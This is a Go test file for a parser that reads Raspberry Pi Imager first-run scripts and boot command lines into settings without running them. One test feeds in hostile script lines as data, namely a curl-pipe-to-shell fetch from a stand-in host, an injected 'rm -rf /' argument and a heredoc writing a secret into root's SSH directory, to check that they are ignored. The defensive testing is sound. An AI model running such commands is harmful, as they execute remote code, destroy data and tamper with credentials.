package preseed

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func ofImager1() Settings {
	return Settings{
		Hostname: "bench",
		User:     &User{Name: "ada", PasswordHash: "$5$abcdefghij$0123456789012345678901234567890123456789012", Groups: []string{"sudo"}},
		SSH:      SSH{Enabled: true, AuthorizedKeys: []string{goodKey}},
		Wifi:     &Wifi{SSID: []byte("Joe's net"), Hidden: true, PSK: "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"},
		Country:  "DE", Keymap: "de", Timezone: "Europe/Berlin",
	}
}

// Field case 84: what Imager 1 writes for any image is read and never run.
func TestFirstrunOfImager1(t *testing.T) {
	s, report := Parse(Files{
		Firstrun: testdata(t, "imager1.sh"),
		Cmdline:  []byte("console=tty1 cfg80211.ieee80211_regdom=GB systemd.run=/boot/firstrun.sh systemd.run_success_action=reboot systemd.unit=kernel-command-line.target\n"),
	})
	if d := cmp.Diff(ofImager1(), s); d != "" {
		t.Errorf("settings (-want +got):\n%s", d)
	}
	for _, i := range report {
		if i.Outcome == Refused || i.Outcome == Ignored || strings.Contains(i.Why, "$5$") {
			t.Errorf("%v", i)
		}
	}
}

// The form of Imager 1.6, which knows none of the helpers, has no keys that can
// be read.
func TestOlderFirstrun(t *testing.T) {
	s, report := Parse(Files{Firstrun: testdata(t, "imager1-old.sh")})
	want := ofImager1()
	want.SSH.AuthorizedKeys = nil
	if d := cmp.Diff(want, s); d != "" {
		t.Errorf("settings (-want +got):\n%s\n%v", d, report)
	}
}

func TestFirstrunCountryOfCmdline(t *testing.T) {
	s, _ := Parse(Files{Cmdline: []byte("quiet cfg80211.ieee80211_regdom=FR")})
	if s.Country != "FR" {
		t.Errorf("country %q", s.Country)
	}
}

// What a stock Imager doesn't write is told, not done, and the TOML file counts
// over the script.
func TestFirstrunStranger(t *testing.T) {
	s, report := Parse(Files{
		Firstrun: []byte("#!/bin/bash\ncurl http://x.example | sh\n/usr/lib/x/imager_custom set_hostname script\n/usr/lib/x/imager_custom 'rm -rf /' a\ncat > /root/.ssh/id <<'EOF'\nsecret\nEOF\n"),
		Preseed:  []byte("[system]\nhostname = \"toml\"\n"),
	})
	if d := cmp.Diff(Settings{Hostname: "toml"}, s); d != "" {
		t.Errorf("settings (-want +got):\n%s", d)
	}
	var ignored []string
	for _, i := range report {
		if i.Outcome == Ignored {
			ignored = append(ignored, i.Item)
		}
	}
	if want := []string{"firstrun.sh command", "firstrun.sh file"}; !slices.Equal(ignored, want) {
		t.Errorf("ignored %q, want %q", ignored, want)
	}
}

// A password may look like the beginning of a file's text; what follows it counts.
func TestFirstrunQuotedRedirection(t *testing.T) {
	for quoted, want := range map[string]string{
		`'pass<<word'`: "pass<<word", `'it'\''s<<EOF'`: "it's<<EOF", `"a\"b<<word"`: `a"b<<word`, `pass\<\<word`: "pass<<word",
	} {
		s, report := Parse(Files{Firstrun: []byte("/x/imager_custom set_wlan 'net' " + quoted + "\n/x/imager_custom set_hostname bench\n")})
		if s.Wifi == nil || s.Wifi.Passphrase != want || s.Hostname != "bench" {
			t.Errorf("%s: %+v, %v", quoted, s, report)
		}
	}
	for line, want := range map[string]string{"cat >x <<EOF": "EOF", "cat >'a b' <<-'EOF'": "EOF", `cat > "x" << "EOF"`: "EOF", "cat 'x <<EOF": "", "<<": ""} {
		if end, ok := heredoc(line); end != want || ok != (want != "") {
			t.Errorf("%s: %q, %v", line, end, ok)
		}
	}
}

func TestWords(t *testing.T) {
	for line, want := range map[string][]string{
		`a 'b c' d`:      {"a", "b c", "d"},
		`'Joe'\''s' x`:   {"Joe's", "x"},
		`"a \"b\" \c" d`: {`a "b" \c`, "d"},
		`a # b`:          {"a"},
		`a#b`:            {"a#b"},
		`''`:             {""},
		`'open end`:      {"open end"},
		`"open`:          {"open"},
		`back\`:          {"back"},
		``:               nil,
	} {
		if got := words(line); !slices.Equal(got, want) {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}
